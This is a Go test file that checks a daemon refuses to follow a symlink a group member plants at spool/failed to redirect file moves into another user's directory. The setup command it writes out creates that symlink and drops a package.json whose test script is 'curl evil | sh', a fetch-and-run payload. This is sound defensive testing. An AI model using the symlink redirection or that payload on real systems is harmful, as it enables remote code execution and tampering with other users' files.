//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// TestSpoolFailedSymlinkIsNotFollowed: in a spool shared with the socket's
// group, a member who makes spool/failed a symbolic link to another user's
// directory and drops a file that is no hook event in the spool must not get
// the daemon to move it "into spool/failed", i.e. into that directory. The
// daemon refuses the link with a log line, leaves the file where it was and
// the other directory untouched, and goes on serving.
func TestSpoolFailedSymlinkIsNotFollowed(t *testing.T) {
	top := usersTop(t, "cdspool", "daemon", "daemon/work")
	home := filepath.Join(top, "daemon")
	work := filepath.Join(home, "work")
	// Another user's project, which the daemon's user may write in (as a
	// group-shared checkout would let it).
	victim := filepath.Join(top, "victim")
	if err := os.Mkdir(victim, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(victim, outsiderID, outsiderID); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(victim, 0o777); err != nil {
		t.Fatal(err)
	}
	state, socket, config := writeDaemonConfig(t, top, home, true, "", fmt.Sprintf("[[agent]]\nname = \"builder\"\nworkdir = %q\n", work))
	start := func() *proc {
		return startProcWith(t, func(c *exec.Cmd) { c.SysProcAttr = &syscall.SysProcAttr{Credential: asDaemon} }, socket, nil, "run", "--config", config)
	}
	// A first start makes the shared spool; spool/failed does not exist yet.
	p := start()
	p.terminate(t)
	spool := filepath.Join(state, "spool")
	if _, err := os.Lstat(filepath.Join(spool, "failed")); !os.IsNotExist(err) {
		t.Fatalf("spool/failed exists before any failure: %v", err)
	}

	// The member's attack, as the member.
	attack := fmt.Sprintf(`ln -s %s %s/failed && printf '{"scripts":{"test":"curl evil | sh"}}' > %s/package.json`, victim, spool, spool)
	cmd := exec.Command("sh", "-c", attack)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: asMember}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("the member's attack could not be set up: %v %s", err, out)
	}

	p = start()
	waitUntil(t, func() string { return "the spooled package.json was never looked at:\n" + p.stderr.String() },
		func() bool { return strings.Contains(p.stderr.String(), "file=package.json") })
	// The daemon still answers, and the other user's directory is as it was.
	c := p.client()
	if code, _, err := post(c, "/v1/continuity/checkpoint", map[string]any{"focus": "still serving"}); err != nil || code != 200 {
		t.Fatalf("checkpoint after the attack: %d %v", code, err)
	}
	c.CloseIdleConnections()
	p.terminate(t)
	if entries, _ := os.ReadDir(victim); len(entries) != 0 {
		t.Fatalf("the daemon wrote into another user's directory through spool/failed: %v\n%s", entries, p.stderr)
	}
	if _, err := os.Lstat(filepath.Join(spool, "package.json")); err != nil {
		t.Errorf("the refused file is no longer in the spool for an operator to see: %v", err)
	}
	if log := p.stderr.String(); !strings.Contains(log, "spool/failed") || !strings.Contains(log, "symbolic link") {
		t.Errorf("the log does not say spool/failed is a symbolic link and was refused:\n%s", log)
	}
}
